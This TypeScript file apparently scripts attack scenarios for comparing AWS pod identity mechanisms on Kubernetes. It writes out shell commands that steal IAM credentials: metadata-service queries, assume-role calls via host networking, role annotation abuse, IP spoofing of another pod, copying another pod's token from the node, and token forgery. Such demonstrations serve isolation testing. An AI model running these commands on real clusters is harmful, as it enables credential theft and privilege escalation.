/** What pod 1 runs in each world: the commands of its attacks, as they are run in the pod. */
import { expected } from './expected.ts'
import type { AttackName, WorldName } from './story.ts'

/** One command of the pod; or one of somebody who may patch pods, for which the pod waits. */
export type Step =
  | { readonly run: string }
  | { readonly annotate: { readonly key: string; readonly value: string } }

/** What the attacker knows of the world. */
export interface Surroundings {
  /** Role names. `payroll` is another team's. */
  readonly roles: { readonly database: string; readonly payroll: string }
  readonly account: string
}

export interface Attack {
  readonly name: AttackName
  readonly steps: readonly Step[]
  readonly hostNetwork?: boolean
  /** Runs as pod 2's ServiceAccount instead of its own. */
  readonly asPodTwo?: boolean
  /** Takes pod 2's address first, where pods have networks of their own. */
  readonly takesAddress?: boolean
  /** With the node's folder of pods mounted, as root of the node sees it. */
  readonly seesNode?: boolean
}

export const roleAnnotation = 'iam.amazonaws.com/role'
const irsaAnnotation = 'eks.amazonaws.com/role-arn'

/** The variables by which a pod finds its own identity; without them it speaks as its node. */
const ownIdentity: Partial<Record<WorldName, string>> = {
  'pod-identity': 'AWS_CONTAINER_CREDENTIALS_FULL_URI AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE',
  irsa: 'AWS_ROLE_ARN AWS_WEB_IDENTITY_TOKEN_FILE',
}

/** The attacks that a world knows, in the story's order. */
export function attacksIn(world: WorldName, around: Surroundings): Attack[] {
  return Object.keys(expected[world]).map((name) =>
    makers[name as AttackName](world, around, name as AttackName),
  )
}

type Maker = (world: WorldName, around: Surroundings, name: AttackName) => Attack

const makers: Readonly<Record<AttackName, Maker>> = {
  metadata(world, _, name) {
    const isProxied = world === 'kube2iam' || world === 'kiam'
    return {
      name,
      steps: [
        ...forgetIdentity(world),
        { run: 'curl $METADATA/security-credentials/' },
        ...(isProxied ? [{ run: 'curl $METADATA/info' }] : []),
        { run: 'login' },
      ],
    }
  },
  'host-network'(world, _, name) {
    const assume = 'aws sts assume-role --role-arn $DATABASE_ROLE --role-session-name thief'
    return {
      name,
      hostNetwork: true,
      steps: [
        ...forgetIdentity(world),
        { run: 'login' },
        ...(world === 'node-role' ? [] : [{ run: `use "$(${assume})" && login` }]),
      ],
    }
  },
  annotation(world, around, name) {
    const { database, payroll } = around.roles
    if (world === 'kube2iam' || world === 'kiam') {
      return {
        name,
        steps: [
          { annotate: { key: roleAnnotation, value: payroll } },
          { run: `use "$(curl $METADATA/security-credentials/${payroll})"` },
          { annotate: { key: roleAnnotation, value: database } },
          { run: `use "$(curl $METADATA/security-credentials/${database})" && login` },
        ],
      }
    }
    const value = `arn:aws:iam::${around.account}:role/${database}`
    return {
      name,
      steps: [
        { annotate: { key: irsaAnnotation, value } },
        ...(world === 'irsa' ? [{ run: 'export AWS_ROLE_ARN=$DATABASE_ROLE' }] : []),
        { run: 'login' },
      ],
    }
  },
  address(world, around, name) {
    const from = 'curl --interface $POD_2_IP'
    const header = 'Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)'
    const lines: Partial<Record<WorldName, string>> = {
      'pod-identity': `use "$(${from} -H "${header}" $AWS_CONTAINER_CREDENTIALS_FULL_URI)" && login`,
      irsa: `use "$(${from} $AWS_ENDPOINT_URL -d Action=AssumeRoleWithWebIdentity -d Version=2011-06-15 -d RoleSessionName=thief -d RoleArn=$DATABASE_ROLE --data-urlencode WebIdentityToken@$AWS_WEB_IDENTITY_TOKEN_FILE)" && login`,
    }
    const role = `$METADATA/security-credentials/${around.roles.database}`
    return {
      name,
      takesAddress: true,
      steps: [{ run: lines[world] ?? `use "$(${from} ${role})" && login` }],
    }
  },
  'service-account': (_world, _around, name) => ({
    name,
    asPodTwo: true,
    steps: [{ run: 'login' }],
  }),
  'stolen-token': (world, _, name) => ({
    name,
    seesNode: true,
    steps: [
      { run: `cp $NODE_PODS/$POD_2_UID/volumes/${tokenVolume(world)} stolen` },
      ...presented('stolen', world),
    ],
  }),
  'forged-token': (world, _, name) => {
    const own =
      world === 'irsa' ? 'AWS_WEB_IDENTITY_TOKEN_FILE' : 'AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE'
    return {
      name,
      steps: [{ run: `rename public database < $${own} > forged` }, ...presented('forged', world)],
    }
  },
}

function forgetIdentity(world: WorldName): Step[] {
  const variables = ownIdentity[world]
  return variables === undefined ? [] : [{ run: `unset ${variables}` }]
}

/** A login with the token in a file of the pod's working folder. */
function presented(file: string, world: WorldName): Step[] {
  if (world === 'irsa') {
    const variables = `AWS_WEB_IDENTITY_TOKEN_FILE=$PWD/${file} AWS_ROLE_ARN=$DATABASE_ROLE`
    return [{ run: `export ${variables}` }, { run: 'login' }]
  }
  const header = `-H "Authorization: $(cat ${file})"`
  return [{ run: `use "$(curl ${header} $AWS_CONTAINER_CREDENTIALS_FULL_URI)" && login` }]
}

function tokenVolume(world: WorldName): string {
  return world === 'irsa' ? 'aws-iam-token/token' : 'eks-pod-identity-token/eks-pod-identity-token'
}
